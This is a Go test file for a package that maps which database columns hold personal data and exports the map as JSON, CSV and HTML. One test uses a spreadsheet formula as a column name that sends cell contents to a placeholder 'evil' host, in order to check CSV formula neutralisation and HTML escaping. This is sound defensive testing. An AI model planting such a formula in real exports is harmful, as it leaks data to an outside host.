package datamap

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
)

func sample() []Entry {
	e := []Entry{
		{Table: "public.orders", Column: "card_number", Personal: true, Categories: []string{"user.financial.credit_card"}, Confidence: 0.95, Share: 0.7, Seen: 10, NonNull: 10, WithPII: 7, Reasons: []string{"card"}},
		{Table: "public.customers", Column: "email", Personal: true, Categories: []string{"user.contact.email"}, Confidence: 0.99, Share: 1, Seen: 5, NonNull: 5, WithPII: 5},
		{Table: "public.customers", Column: "locale", Categories: []string{}, Seen: 5, NonNull: 5},
		{Table: "public.customers", Column: "<script>", Personal: true, Categories: []string{"user.contact.email"}},
	}
	Sort(e)
	return e
}

func TestSortAndJSON(t *testing.T) {
	e := sample()
	if e[0].Table != "public.customers" || e[0].Column != "<script>" || e[3].Table != "public.orders" {
		t.Fatalf("not sorted by table, column: %v", e)
	}
	var buf bytes.Buffer
	if err := WriteJSON(&buf, e); err != nil {
		t.Fatal(err)
	}
	var back []Entry
	if err := json.Unmarshal(buf.Bytes(), &back); err != nil || len(back) != 4 {
		t.Fatalf("json: %v, %d entries", err, len(back))
	}
	buf.Reset()
	if err := WriteJSON(&buf, nil); err != nil || strings.TrimSpace(buf.String()) != "[]" {
		t.Errorf("empty map must be [], got %q", buf.String())
	}
}

func TestCSV(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, sample()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 5 || rows[0][0] != "table" || len(rows[1]) != len(csvHeader) {
		t.Fatalf("csv shape wrong: %d rows", len(rows))
	}
}

// A hostile schema's names must not run as spreadsheet formulas.
func TestCSVFormulaNames(t *testing.T) {
	var buf bytes.Buffer
	e := []Entry{{Table: "public.t", Column: `=HYPERLINK("http://evil/?"&A1,"x")`, Reasons: []string{"@SUM(1)"}, Categories: []string{}}}
	if err := WriteCSV(&buf, e); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if col, why := rows[1][1], rows[1][9]; !strings.HasPrefix(col, "'=") || !strings.HasPrefix(why, "'@") {
		t.Fatalf("column %q, reasons %q: want both made text with a leading '", col, why)
	}
}

func TestHTML(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteHTML(&buf, "data map", sample()); err != nil {
		t.Fatal(err)
	}
	h := buf.String()
	for _, want := range []string{"<h2>public.customers</h2>", "<h2>public.orders</h2>", "3 of 4 columns hold personal data",
		`class="bar" style="width:100%"`, "user.contact.email"} {
		if !strings.Contains(h, want) {
			t.Errorf("html lacks %q", want)
		}
	}
	if strings.Contains(h, "<script>") {
		t.Error("column names must be escaped")
	}
	if strings.Contains(h, "could not be read") {
		t.Error("a map with every column read says some could not be")
	}
	// An audit's unread columns are unknown, not clean: the summary says so.
	e := append(sample(), Entry{Table: "public.hidden", Column: "secret", Categories: []string{}, Coverage: CoverageNone})
	buf.Reset()
	if err := WriteHTML(&buf, "scan", e); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "1 column could not be read in full") {
		t.Error("the summary does not say a column could not be read")
	}
}
